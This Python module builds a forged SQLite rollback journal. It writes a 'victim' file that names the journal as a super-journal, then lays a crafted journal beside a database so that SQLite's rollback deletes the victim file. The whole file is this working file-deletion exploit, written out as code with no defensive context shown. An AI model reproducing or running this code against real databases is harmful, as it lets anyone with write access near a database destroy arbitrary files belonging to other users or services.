"""What somebody who may write beside a database can plant: a journal by which SQLite removes another file."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR_BYTES = 512


def plant_journal(database: Path, victim: Path) -> None:
    """Lay a journal beside a database that names a super-journal; whoever believes it removes ``victim``."""
    page_bytes = struct.unpack(">H", database.read_bytes()[16:18])[0]
    journal = database.with_name(f"{database.name}-journal")
    # The super-journal names this journal, and nothing waits for it once this one is rolled back.
    victim.write_bytes(str(journal).encode() + b"\0")
    pages = database.stat().st_size // page_bytes
    header = _MAGIC + struct.pack(">IIIII", 0, 0, pages, _SECTOR_BYTES, page_bytes)
    name = str(victim).encode()
    # The page of the lock, the name, its length and the sum of its bytes, and the magic once more.
    lock_page = 0x40000000 // page_bytes + 1
    end = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal.write_bytes(header.ljust(_SECTOR_BYTES, b"\0") + end)
